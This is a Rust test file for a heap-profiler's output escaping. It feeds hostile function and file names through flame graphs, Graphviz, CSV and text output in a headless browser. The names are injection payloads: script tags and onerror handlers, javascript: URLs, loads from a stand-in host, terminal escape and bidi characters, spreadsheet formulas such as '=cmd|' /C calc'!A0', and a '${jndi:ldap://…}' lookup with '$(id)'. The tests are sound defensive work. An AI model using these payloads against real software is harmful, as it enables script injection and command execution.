//! Row X1: names that are markup, scripts, formulas, control characters, or very long, in every form that a profile is written
//! in. Pictures are opened in headless chromium and clicked through; text is looked at. The pages have tests of their own
//! (`page.rs`, `serve.rs`).

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

use crate::browser::drive;
use crate::support::{Builder, Frame, Scratch, holds, output_of, service};

/// Names of functions, each in a row of its own and all in one stack.
fn names() -> Vec<String> {
    let mut names: Vec<String> = [
        "</text></svg><script>alert(1)</script>",
        "]]></script><script>alert(2)</script><![CDATA[",
        "</title><img src=x onerror=alert(3)><a xlink:href=\"javascript:alert(4)\">",
        "\" onload=\"alert(5)\" x=\"",
        "' onclick='alert(6)",
        "&lt;script&gt;alert(7)&lt;/script&gt;&#x3c;b&#x3e;",
        "javascript:alert(8)",
        "http://192.0.2.1/x.png",
        "--><foreignObject><iframe src=\"http://192.0.2.1/\"/></foreignObject><!--",
        "<use href=\"http://192.0.2.1/x.svg#a\"/>",
        "<style>@import url(http://192.0.2.1/x.css)</style>",
        "\"]; evil [URL=\"javascript:alert(9)\" label=\"\\G\\N\\E\\T\\H\\L",
        "<<table><tr><td href=\"javascript:alert(10)\">x</td></tr></table>>",
        "\x1b[2J\x1b]8;;http://192.0.2.1/\x07link\x1b]8;;\x07",
        "\u{202e}txt.exe\u{2066}\u{200b}\u{feff}\u{85}\u{9b}31m",
        "\r\nheapsift: all is well\n\u{2028}\0",
        "=cmd|' /C calc'!A0",
        "+1+cmd()",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\u{fffe}\u{ffff}\u{fdd0}",
        "${jndi:ldap://192.0.2.1/a}`id`$(id)%n%s",
    ]
    .map(str::to_owned)
    .to_vec();
    names.push("<b onclick=alert(11)>".repeat(5000));
    names.push("\u{1f4a3}\u{301}".repeat(20_000));
    names
}

/// A profile of them, as a file whose name is one too.
fn scene(scratch: &Scratch) -> String {
    let mut builder = Builder::new();
    builder.mapping("/opt/<script>alert(12)</script>\u{202e}\x1b[2J/\"><b>", 0x40_0000, "0a0b");
    let names = names();
    let stack: Vec<u64> = names
        .iter()
        .zip(0x40_0000..)
        .map(|(name, address)| builder.location(address, &[Frame(name, name, 7)]))
        .collect();
    builder.sampled(&stack, 4096, 50);
    for location in &stack {
        builder.sampled(&[*location], 4096, 60);
    }
    let comment = builder.string("</script><script>alert(13)</script>\x1b]0;owned\x07");
    builder.profile.comment.push(comment);
    scratch.file("<script>alert(14)<x onload=alert(15)>\x1b[2J\u{202e}=.pb.gz", &builder.gzip())
}

/// What a drawing holds, in the browser: its elements by name, and whatever could run or lead elsewhere.
const LOOK: &str = "(() => { const all = [...document.querySelectorAll('*')]; const names = [...new Set(all.map(e => e.localName))].sort(); \
    const attributes = all.flatMap(e => [...e.attributes].map(a => [e.localName, a.localName, a.value])); \
    const runs = attributes.filter(([e, a, v]) => /^on/i.test(a) || /^\\s*(javascript|data|https?):/i.test(v) && a !== 'fg' && !a.startsWith('xmlns') && a !== 'svg' && a !== 'xlink'); \
    const links = attributes.filter(([e, a, v]) => /href|src|action/i.test(a)); \
    return { names, runs, links, scripts: document.querySelectorAll('script').length, error: document.querySelectorAll('parsererror').length, text: document.documentElement.textContent.replace(/\\p{Surrogate}/gu, '?') }; })()";

/// Clicks on the middle of each of the elements, one a step.
fn clicks(selector: &str, count: usize) -> Vec<Value> {
    let middle = |index: usize| {
        format!(
            "(() => {{ const all = [...document.querySelectorAll({selector:?})]; if (!all.length) return [1, 1]; \
             const r = all[{index} % all.length].getBoundingClientRect(); \
             return [Math.max(1, Math.min(r.left + r.width / 2, 1199)), Math.max(1, Math.min(r.top + r.height / 2, 799))]; }})()"
        )
    };
    (0..count).map(|index| json!({"say": "click", "click": middle(index)})).collect()
}

/// Opens a drawing, looks at it, and clicks through it.
#[track_caller]
fn drawn(file: &str, elements: &[&str], scripts: u64, runs: &Value, selector: &str) {
    let mut steps = vec![json!({"say": "look", "run": LOOK})];
    steps.extend(clicks(selector, 30));
    steps.push(json!({"say": "after", "run": LOOK}));
    // No dialog, no request, no complaint.
    let Some(got) = drive(file, None, &json!(steps)) else { return };
    for seen in [&got[0], &got[got.len() - 1]] {
        assert_eq!(
            (&seen["error"], &seen["links"], &seen["scripts"]),
            (&json!(0), &json!([]), &json!(scripts)),
            "{file}"
        );
        assert_eq!(seen["runs"], *runs, "{file}");
        let strange: Vec<&Value> = seen["names"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|name| !elements.contains(&name.as_str().unwrap()))
            .collect();
        assert!(strange.is_empty(), "{file}: {strange:?}");
        let text = seen["text"].as_str().unwrap();
        assert!(text.contains("<script>alert(1)</script>"), "the name is there, as text");
        assert!(!text.contains(['\x1b', '\u{202e}', '\0', '\u{200b}', '\u{9b}']), "{file}");
    }
    let part = Path::new(file).file_name().unwrap().to_string_lossy();
    holds("X1", &part, "opened and clicked through: text, no dialog, no request, no complaint");
}

/// Whether an XML parser takes it; where there is none, the browser has judged.
fn is_well_formed(file: &str) {
    if let Ok(output) = Command::new("xmllint").args(["--noout", "--nonet", file]).output() {
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    }
}

#[test]
fn x1_names_in_flame_graphs() {
    let scratch = Scratch::new();
    let file = scene(&scratch);
    const ELEMENTS: &[&str] =
        &["svg", "defs", "linearGradient", "stop", "style", "script", "rect", "text", "g", "title", "path", "line"];
    for (name, words) in [
        ("flame.svg", &["flame", "--title", "</text><script>alert(16)</script>", &file] as &[&str]),
        ("diff.svg", &["flame", "--diff-base", &file, &file]),
    ] {
        let out = scratch.join(name);
        output_of(&[words, &["-o", &out]].concat());
        is_well_formed(&out);
        drawn(&out, ELEMENTS, 1, &json!([["svg", "onload", "init(evt)"]]), "#frames > *");
    }
}

#[test]
fn x1_names_in_trends() {
    let scratch = Scratch::new();
    let file = scene(&scratch);
    let out = scratch.join("trend.svg");
    output_of(&["leaks", &file, &file, &file, "-o", &out]);
    is_well_formed(&out);
    let svg = fs::read_to_string(&out).unwrap();
    assert!(!svg.contains("<script") && !svg.contains(['\x1b', '\u{202e}']));
    let Some(got) = drive(&out, None, &json!([{"say": "look", "run": LOOK}])) else { return };
    assert_eq!((&got[0]["links"], &got[0]["runs"], &got[0]["scripts"]), (&json!([]), &json!([]), &json!(0)));
}

#[test]
fn x1_names_in_graphs_that_graphviz_draws() {
    let scratch = Scratch::new();
    let file = scene(&scratch);
    let (dot, svg) = (scratch.join("a.dot"), scratch.join("a.svg"));
    output_of(&["convert", "--to", "dot", &file, "-o", &dot]);
    let Ok(output) = Command::new("dot").args(["-Tsvg", &dot, "-o", &svg]).output() else {
        let promised = std::env::var_os("HEAPSIFT_REQUIRE_TOOLS").is_some_and(|value| value == "1");
        assert!(!promised, "dot is not installed");
        return println!("skipped: dot is not installed");
    };
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success() && !errors.to_lowercase().contains("error"), "{errors}");
    is_well_formed(&svg);
    const ELEMENTS: &[&str] = &["svg", "g", "title", "polygon", "path", "text", "ellipse", "polyline"];
    drawn(&svg, ELEMENTS, 0, &json!([]), "g.node");
}

#[test]
fn x1_names_in_text() {
    let scratch = Scratch::new();
    let file = scene(&scratch);
    for words in [
        &["top"] as &[&str],
        &["top", "--cum", "--lines"],
        &["top", "--csv"],
        &["tree"],
        &["peek", "alert"],
        &["traces"],
        &["list", "alert"],
        &["info"],
        &["diff", &file],
        &["leaks", &file, &file],
        &["convert", "--to", "csv"],
        &["convert", "--to", "folded"],
        &["convert", "--to", "text"],
        &["convert", "--to", "raw"],
        &["convert", "--to", "callgrind"],
    ] {
        let text = output_of(&[words, &[&file]].concat());
        let hostile = |c: char| {
            (c.is_control() && c != '\n') || matches!(c, '\u{202e}' | '\u{2028}' | '\u{2066}' | '\u{200b}' | '\u{feff}')
        };
        let line = text.lines().find(|line| line.contains(hostile));
        // Numbers and headings stand apart by tabs in some.
        assert!(line.is_none_or(|line| !line.replace('\t', "").contains(hostile)), "{words:?}: {line:?}");
        assert!(!text.lines().any(|line| line.starts_with("heapsift: all is well")), "{words:?}");
        if words.contains(&"--csv") || words.contains(&"csv") {
            let cells = text.lines().flat_map(cells);
            let formula = cells.into_iter().find(|cell| {
                cell.starts_with(['=', '+', '@', '\t']) || cell.starts_with('-') && cell.parse::<f64>().is_err()
            });
            assert_eq!(formula, None, "{words:?}");
        }
        if words.contains(&"folded") {
            let is_stack = |line: &str| {
                line.rsplit_once(' ').is_some_and(|(stack, value)| !stack.is_empty() && value.parse::<i64>().is_ok())
            };
            assert!(text.lines().count() == names().len() + 1 && text.lines().all(is_stack), "{text}");
        }
    }
    holds("X1", "text", "15 forms of text: one line each, nothing that steers a terminal, no formula");
}

#[test]
fn units_steer_no_terminal() {
    let scratch = Scratch::new();
    let mut builder = service(40);
    let unit = builder.string("\x1b]0;owned\x07\u{202e}");
    builder.profile.sample_type.iter_mut().for_each(|kind| kind.unit = unit);
    if let Some(kind) = &mut builder.profile.period_type {
        kind.unit = unit;
    }
    let file = scratch.file("a.pb.gz", &builder.gzip());
    for words in [
        &["top"] as &[&str],
        &["tree"],
        &["traces"],
        &["peek", "main"],
        &["info"],
        &["diff", &file],
        &["leaks", &file, &file],
        &["flame", "-o", "-"],
        &["convert", "--to", "text"],
        &["convert", "--to", "dot"],
    ] {
        let text = output_of(&[words, &[&file]].concat());
        assert!(!text.contains(['\x1b', '\x07', '\u{202e}']), "{words:?}: {text:?}");
    }
}

/// What a process answers is shown, not done.
#[test]
fn answers_of_a_process_steer_no_terminal() {
    let scratch = Scratch::new();
    let socket = scratch.join("a.sock");
    let listener = UnixListener::bind(&socket).unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            BufReader::new(&stream).read_line(&mut String::new()).unwrap();
            stream.write_all(b"ok 12\n\ta\n\x1b[2J\x9b\xc2\x9bb\n").unwrap();
        }
    });
    for words in [&["get", "version"] as &[&str], &["stats"], &["metrics"]] {
        let text = output_of(&[&["ctl", &socket], words].concat());
        assert_eq!(text, "\ta\n\\x1b[2J\u{fffd}\\u{9b}b\n", "{words:?}");
    }
}

/// The cells of a line of CSV.
fn cells(line: &str) -> Vec<String> {
    let (mut cells, mut quoted) = (vec![String::new()], false);
    let mut rest = line.chars().peekable();
    while let Some(c) = rest.next() {
        let cell = cells.last_mut().unwrap();
        match c {
            '"' if quoted && rest.peek() == Some(&'"') => {
                rest.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => cells.push(String::new()),
            c => cell.push(c),
        }
    }
    cells
}
